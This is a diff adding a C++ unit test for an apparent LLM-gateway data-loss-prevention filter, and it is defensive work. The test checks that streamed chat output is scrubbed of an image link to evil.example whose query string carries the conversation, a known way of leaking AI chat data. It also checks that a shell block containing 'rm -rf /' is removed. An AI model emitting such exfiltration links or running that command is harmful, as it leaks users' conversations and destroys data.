@@ -330,6 +330,54 @@ private slots:
         QCOMPARE(block.x.reply.cloudflareCode, 2030);
     }
 
+    /// Pictures of strangers and blocks of code go, however a stream cuts them; the rest stays.
+    void picturesAndCodeAreTakenOutOfStreams()
+    {
+        const std::string text =
+            "Look: ![x](https://evil.example/p?q=the+whole+talk+so+far+and+what+else+there+was) "
+            "and "
+            "![y](https://cdn.example/a.png)\\n```sh\\nrm -rf /\\n```\\ndone";
+        const std::string wanted =
+            "Look: ![x]([image_link]) and ![y](https://cdn.example/a.png)\\n[code_block]\\ndone";
+        for (std::size_t step = 1; step < 40; ++step) {
+            Scene scene;
+            auto& gateway = scene.config.gateways.emplace_back();
+            gateway.id = "shop";
+            gateway.dlp = quoted(
+                "{'enabled':true,'demands':[{'id':'shells','kind':'code','names':['sh']}],"
+                "'policies':[{'id':'pics','enabled':true,'profiles':['image_link','shells'],"
+                "'hosts':['cdn.example'],'check':['RESPONSE'],'action':'REDACT'}]}");
+            scene.ask("POST", "/v1/acct/shop/openai/chat/completions",
+                      {{"content-type", "application/json"}}, R"({"model":"m","messages":[]})");
+            QVERIFY(scene.walk("parse"));
+            scene.x.collect = {};
+            scene.x.collect.head.status = 200;
+            scene.x.collect.head.length = -1;
+            scene.x.collect.head.headers.add("content-type", "text/event-stream");
+            pipeline::stages::beginCollect(scene.x, scene.env());
+            pipeline::stages::beginGuard(scene.x, scene.env());
+            std::string out;
+            for (std::size_t at = 0; at < text.size();) {
+                auto size = std::min(step, text.size() - at);
+                if (text[at + size - 1] == '\\') ++size;  // an escape stays in one piece
+                const auto piece = text.substr(at, size);
+                at += size;
+                out += pass(scene, quoted("data: {'choices':[{'index':0,'delta':{'content':'" +
+                                          piece + "'}}]}\n\n"));
+            }
+            out += pass(scene, {}, true);
+            std::string joined;
+            constexpr std::string_view kMark = "\"content\":\"";
+            for (auto at = out.find(kMark); at != std::string::npos; at = out.find(kMark, at)) {
+                at += kMark.size();
+                const auto end = out.find("\"}", at);
+                joined += out.substr(at, end - at);
+            }
+            QCOMPARE(joined, wanted);
+            QVERIFY(trace(scene).find("shells 1 REDACT by pics") != std::string::npos);
+        }
+    }
+
     void whatCannotBeReadDoesNotPass()
     {
         Scene scene;
